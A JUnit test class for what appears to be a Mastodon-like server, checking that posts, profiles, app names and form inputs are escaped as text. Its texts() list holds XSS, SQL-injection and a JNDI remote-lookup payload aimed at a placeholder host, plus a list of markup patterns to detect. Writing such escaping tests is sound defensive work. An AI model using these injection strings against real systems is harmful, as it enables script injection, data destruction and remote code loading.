package sadari.server.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import sadari.server.client.Browser;
import sadari.server.client.People;
import sadari.server.client.People.Person;
import sadari.server.client.Pictures;
import sadari.server.client.RunningServer;
import sadari.server.client.ThirdParty;

/// What people write is kept as it is, and shown as text wherever it is shown.
class EscapingTest {
  private static final Pattern TAG = Pattern.compile("<[^>]*>?");

  /// What the HTML of a post, a note or a field is made of; the rest of an address is escaped.
  private static final Pattern GOOD =
      Pattern.compile(
          "</?(p|span|a)>|<br />|<span( class=\"[a-z-]+\"| translate=\"no\")*>"
              + "|<a href=\"https?://[^\"<>\\s]+\"( (target|rel|translate|class)=\"[a-z _-]+\")*>");

  private static RunningServer server;
  private static People people;

  @BeforeAll
  static void start(@TempDir Path data) {
    server = RunningServer.start(data, Map.of());
    people = new People(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  static List<String> texts() {
    return List.of(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</p></script><svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "https://e.example/\"onmouseover=alert(1)",
        "https://e.example/<script>alert(1)</script>",
        "https://e.example/'><script>alert(1)</script>",
        "javascript:alert(1) data:text/html,<script>alert(1)</script>",
        "#tag\"><script>alert(1)</script> @x\"><b>",
        "'; drop table bucket.post; --",
        "1' or '1'='1",
        "%s %n {0} ${jndi:ldap://e.example/x} \\u003cscript>",
        "<!--<script>alert(1)//-->",
        "]]><script>alert(1)</script>");
  }

  @ParameterizedTest
  @MethodSource("texts")
  void aPostIsText(String text) {
    Person author = people.arrive("writer");
    Map<String, ?> draft =
        Map.of("status", text, "spoiler_text", text, "media_ids", photo(author, text));

    JsonNode post = author.client().post("/api/v1/statuses", draft).ok();
    String page =
        server.stranger().get("/@" + author.handle() + "/" + post.get("id").asText()).text();

    assertHarmless(post.get("content").asText());
    assertEquals(text.strip(), post.get("spoiler_text").asText());
    assertEquals(text.strip(), post.at("/media_attachments/0/description").asText());
    post.get("tags").forEach(tag -> assertFalse(tag.get("url").asText().matches(".*[\"'<>].*")));
    assertPage(page, text);
  }

  private static List<String> photo(Person author, String description) {
    byte[] file = Pictures.photo(32, 32, "png");
    Map<String, String> fields = Map.of("description", description);
    return List.of(
        author
            .client()
            .upload("/api/v2/media", "<script>.png", "image/png", file, fields)
            .ok()
            .get("id")
            .asText());
  }

  @ParameterizedTest
  @MethodSource("texts")
  void aProfileIsText(String text) {
    Person person = people.arrive("person");
    String name = text.substring(0, Math.min(30, text.length()));
    Map<String, String> field = Map.of("name", text, "value", text);
    Map<String, ?> change =
        Map.of("display_name", name, "note", text, "fields_attributes", List.of(field));

    JsonNode changed =
        person.client().json("PATCH", "/api/v1/accounts/update_credentials", change).ok();
    String page = server.stranger().get("/@" + person.handle()).text();

    assertEquals(name.strip(), changed.get("display_name").asText());
    assertHarmless(changed.get("note").asText());
    assertHarmless(changed.at("/fields/0/value").asText());
    assertPage(page, text);
  }

  @ParameterizedTest
  @MethodSource("texts")
  void anApplicationsNameIsText(String text) {
    Browser browser = new Browser(server.stranger());
    browser.signUp("/auth/sign_up", "c" + Integer.toUnsignedString(text.hashCode()));
    Map<String, ?> app =
        Map.of("client_name", text, "redirect_uris", "https://app.example/", "scopes", "read");
    JsonNode registered = server.stranger().post("/api/v1/apps", app).ok();
    String id = registered.get("client_id").asText();
    ThirdParty party = new ThirdParty(server.stranger(), id, "", "https://app.example/", "read");

    String page = browser.client().get(party.asking(Map.of("state", text))).text();

    assertEquals(text.strip(), registered.get("name").asText());
    assertTrue(page.contains("gate-scopes"), page);
    assertPage(page, text);
    assertEquals(
        text,
        Browser.hidden(
                browser.client().get(party.asking(Map.of("state", text))), "/oauth/authorize")
            .get("state"));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void whatIsTypedIntoFormsComesBackAsText(String text) {
    Browser browser = new Browser(server.stranger());
    Map<String, String> typed =
        Map.of("username", text, "email", text, "login", text, "return_to", text);

    String signUp =
        browser.submit(browser.client().get("/auth/sign_up"), "/auth/sign_up", typed).text();
    String logIn =
        browser.submit(browser.client().get("/auth/log_in"), "/auth/log_in", typed).text();

    assertPage(signUp, text);
    assertPage(logIn, text);
  }

  @Test
  void whatIsInTheAddressIsNotInThePage() {
    String page = server.stranger().get("/tags/%3Cscript%3Ealert(1)%3C%2Fscript%3E").text();

    assertPage(page, "<script>alert(1)</script>");
  }

  private static void assertHarmless(String html) {
    TAG.matcher(html)
        .results()
        .map(MatchResult::group)
        .forEach(tag -> assertTrue(GOOD.matcher(tag).matches(), () -> tag + " in " + html));
  }

  /// The text is nowhere in the page as it is, where that would be markup.
  private static void assertPage(String page, String text) {
    for (String markup :
        List.of("<script>alert", "<img src=x", "<svg on", "<b>", "href=\"javascript")) {
      assertFalse(page.contains(markup), markup);
    }
    boolean markup = text.contains("<") || text.contains("\"");
    assertFalse(markup && page.contains(text), text);
    assertFalse(page.contains("\"onmouseover=") || page.contains("' onmouseover='"), text);
  }
}
